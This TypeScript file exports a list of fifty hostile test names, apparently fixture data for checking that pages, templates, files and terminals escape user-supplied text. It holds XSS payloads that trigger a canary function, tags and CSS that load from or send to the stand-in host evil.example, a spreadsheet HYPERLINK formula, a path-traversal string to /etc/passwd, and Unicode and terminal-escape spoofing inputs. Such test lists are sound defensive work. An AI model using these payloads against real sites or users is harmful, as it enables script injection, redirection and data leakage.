/**
 * Fifty names that somebody gives a user, a tenant or a message who wants a page, a script, a style, a file or a
 * terminal to take them for something else. Each tells on itself: what is run calls `canary`.
 */
export const HOSTILE_NAMES: readonly string[] = [
  // Elements with handlers.
  '<img src=x onerror=canary(1)>',
  '"><img src=x onerror=canary(2)>',
  "'><img src=x onerror='canary(3)'>",
  '<svg onload=canary(4)>',
  '<svg><script>canary(5)</script></svg>',
  '<svg><animate onbegin=canary(6) attributeName=x dur=1s>',
  '<svg><a xlink:href="javascript:canary(7)"><text y=20>x</text></a></svg>',
  '<body onload=canary(8)>',
  '<details open ontoggle=canary(9)>x</details>',
  '<input autofocus onfocus=canary(10)>',
  '<video><source onerror=canary(11)></video>',
  '<math><mtext></form><form><mglyph><style></math><img src onerror=canary(12)>',
  '<iframe srcdoc="<script>parent.canary(13)</script>"></iframe>',
  '<object data="javascript:canary(14)"></object>',
  '<a href="javascript:canary(15)">click</a>',
  // What ends a script, a data block, a style, a title, a comment.
  '</script><script>canary(16)</script>',
  '<!--<script>',
  '<!--<script>canary(18)</script>-->',
  '</title><script>canary(19)</script>',
  '</style><script>canary(20)</script>',
  '--><script>canary(21)</script>',
  ']]><script>canary(22)</script>',
  '</textarea><script>canary(23)</script>',
  '<script src=//evil.example/x.js></script>',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<meta http-equiv=refresh content="0;url=https://evil.example/">',
  '<base href=//evil.example/>',
  '<form action=//evil.example><button>x</button></form>',
  '<style>*{background:url(//evil.example/x.png)}</style>',
  'x" style="background:url(//evil.example/y.png)" y="',
  // What ends a string, an attribute, a template, a replacement.
  "');canary(31);//",
  '");canary(32);//',
  '`+canary(33)+`',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: this is what somebody types
  '${canary(34)}',
  '{{constructor.constructor("canary(35)")()}}',
  '\\u003cimg src=x onerror=canary(36)\\u003e',
  '&lt;img src=x onerror=canary(37)&gt;',
  "$&$1$`$'",
  '%3Cscript%3Ecanary(39)%3C/script%3E',
  'javascript:canary(40)',
  'data:text/html,<script>canary(41)</script>',
  // What means something to an object, a selector, a file, a table.
  '__proto__',
  'constructor',
  '#load',
  '../../../etc/passwd',
  '=HYPERLINK("//evil.example","x")',
  // What is not seen, or seen elsewhere.
  '\u202egnp.eno\u202c',
  '\u2066right\u2069 \u200f left',
  'zero\u0000byte\u001b[2J\u0007',
  'half a pair \ud800 and \udc00 another',
];
